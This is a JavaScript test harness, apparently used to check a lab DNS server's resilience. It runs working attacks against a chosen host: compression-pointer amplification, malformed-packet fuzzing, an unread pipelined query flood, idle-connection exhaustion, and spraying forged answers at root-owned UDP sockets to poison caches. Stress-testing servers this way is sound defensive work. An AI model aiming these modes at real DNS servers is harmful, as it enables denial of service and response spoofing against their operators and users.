// Attacks on a lab's DNS server, as the local user who runs this (tests run it as nobody inside
// a sandbox namespace). Plain JavaScript so that any user can run it with the system's node.
// Each mode prints one JSON line when it has done its part, then holds what it opened for
// HOLD seconds (the caller measures the server meanwhile) and exits.
//   oversized HOST              one TCP query with 301 questions (300 compression pointers)
//   malformed HOST N            N random UDP datagrams and N random TCP messages
//   pipeline HOST MB SECS HOLD  MB of pipelined TCP queries for up to SECS, never reading
//   idle HOST N HOLD            N idle TCP connections from 127.0.0.1–127.0.0.64
//   spoof SECS                  fake answers to every UDP socket of root's in /proc/net/udp
//   name HOST TEXT              one UDP query for the name TEXT (JSON string: control characters)
import dgram from "node:dgram";
import { randomBytes, randomInt } from "node:crypto";
import { readFileSync } from "node:fs";
import net from "node:net";
import dnsPacket from "dns-packet";

const [mode, ...args] = process.argv.slice(2);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const say = (o) => console.log(JSON.stringify(o));
const frame = (b) => Buffer.concat([Buffer.from([b.length >> 8, b.length & 0xff]), b]);
const query = (name, id = randomInt(65536)) => dnsPacket.encode({ type: "query", id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: "A", name, class: "IN" }] });

function tcp(host, opts = {}) {
  return new Promise((resolve) => {
    const c = net.connect({ host, port: 53, ...opts }, () => resolve(c));
    c.on("error", () => resolve(null));
  });
}

/** A 245-byte name, then `n` two-byte pointers to it: 300 of them are 2 kB that echo as 75 kB of questions. */
function pointers(n, id) {
  const first = query(Array.from({ length: 4 }, (_, i) => String(i).repeat(60)).join("."), id);
  const raw = Buffer.concat([first, Buffer.alloc(n * 6)]);
  raw.writeUInt16BE(n + 1, 4);
  for (let i = 0; i < n; i++) Buffer.from([0xc0, 0x0c, 0, 1, 0, 1]).copy(raw, first.length + i * 6);
  return raw;
}

async function oversized(host) {
  const raw = pointers(300, 7);
  const c = await tcp(host);
  if (!c) return say({ connected: false });
  let got = Buffer.alloc(0);
  const end = new Promise((r) => {
    c.on("data", (d) => {
      got = Buffer.concat([got, d]);
      if (got.length >= 2 && got.length >= 2 + got.readUInt16BE(0)) r();
    });
    c.on("close", r);
    setTimeout(r, 2000);
  });
  c.write(frame(raw));
  await end;
  c.destroy();
  say({ connected: true, bytes: got.length, rcode: got.length >= 6 ? got.readUInt16BE(4) & 0xf : null, questions: got.length >= 8 ? got.readUInt16BE(6) : null });
}

async function malformed(host, n) {
  const u = dgram.createSocket("udp4");
  for (let i = 0; i < n; i++) {
    const b = i % 3 === 0 ? randomBytes(randomInt(0, 40)) : Buffer.concat([query("x.example").subarray(0, 12), randomBytes(randomInt(0, 600))]);
    await new Promise((r) => u.send(b, 53, host, r));
  }
  u.close();
  let closed = 0;
  for (let i = 0; i < n; i++) {
    const c = await tcp(host);
    if (!c) continue;
    const len = randomInt(0, 300);
    c.write(Buffer.concat([Buffer.from([len >> 8, len & 0xff]), randomBytes(randomInt(0, len + 1))]));
    c.end();
    await new Promise((r) => (c.on("close", r), setTimeout(r, 100)));
    closed++;
    c.destroy();
  }
  say({ udp: n, tcp: closed });
}

async function pipeline(host, mb, secs, hold) {
  const c = await tcp(host);
  if (!c) return say({ connected: false });
  c.pause(); // never reads a reply
  // Small queries, and every tenth one with 150 questions (an answer 40 times its size, echoed).
  const chunk = Buffer.concat(Array.from({ length: 2000 }, (_, i) => frame(i % 10 ? query(`p${i}.example`) : pointers(150, i))));
  let written = 0;
  const end = Date.now() + secs * 1000;
  while (written < mb * 2 ** 20 && Date.now() < end) {
    if (!c.write(chunk)) await Promise.race([new Promise((r) => c.once("drain", r)), sleep(end - Date.now())]);
    written += chunk.length;
  }
  say({ connected: true, queued: written, sent: c.bytesWritten });
  await sleep(hold * 1000);
  c.destroy();
}

async function idle(host, n, hold) {
  const conns = await Promise.all(Array.from({ length: n }, (_, i) => tcp(host, { localAddress: `127.0.0.${1 + (i % 64)}` })));
  for (const c of conns) c?.resume(); // to see the server's FIN when it closes one
  await sleep(1000);
  say({ opened: conns.filter(Boolean).length, open: conns.filter((c) => c && !c.destroyed && !c.readableEnded).length });
  await sleep(hold * 1000);
  for (const c of conns) c?.destroy();
}

/** Root's UDP sockets but port 53, as /proc/net/udp lists them: [address, port]. */
function targets() {
  return readFileSync("/proc/net/udp", "utf8")
    .split("\n")
    .slice(1)
    .map((l) => l.trim().split(/\s+/))
    .filter((f) => f.length > 7 && f[7] === "0")
    .map((f) => {
      const [hex, port] = f[1].split(":");
      const ip = hex === "00000000" ? "127.0.0.1" : [3, 2, 1, 0].map((k) => parseInt(hex.slice(k * 2, k * 2 + 2), 16)).join(".");
      return [ip, parseInt(port, 16)];
    })
    .filter(([, port]) => port !== 53);
}

async function spoof(secs) {
  const u = dgram.createSocket("udp4");
  const ports = new Set();
  let sent = 0;
  const end = Date.now() + secs * 1000;
  while (Date.now() < end) {
    for (const [ip, port] of targets()) {
      ports.add(`${ip}:${port}`);
      for (let k = 0; k < 5; k++) {
        const fake = dnsPacket.encode({ type: "response", id: randomInt(65536), questions: [{ type: "A", name: "probe.example", class: "IN" }], answers: [{ type: "A", name: "probe.example", ttl: 60, data: "6.6.6.6" }] });
        u.send(fake, port, ip);
        sent++;
      }
    }
    await sleep(2);
  }
  u.close();
  say({ ports: ports.size, sent });
}

async function name(host, text) {
  const u = dgram.createSocket("udp4");
  const reply = new Promise((r) => (u.on("message", r), setTimeout(() => r(null), 2000)));
  u.send(query(JSON.parse(text)), 53, host);
  const m = await reply;
  u.close();
  say({ rcode: m ? m.readUInt16BE(2) & 0xf : null });
}

const n = (i) => Number(args[i]);
const modes = {
  oversized: () => oversized(args[0]),
  malformed: () => malformed(args[0], n(1)),
  pipeline: () => pipeline(args[0], n(1), n(2), n(3)),
  idle: () => idle(args[0], n(1), n(2)),
  spoof: () => spoof(n(0)),
  name: () => name(args[0], args[1]),
};
if (!modes[mode]) {
  console.error(`usage: dns-attack.mjs ${Object.keys(modes).join("|")} ...`);
  process.exit(2);
}
await modes[mode]();
process.exit(0);
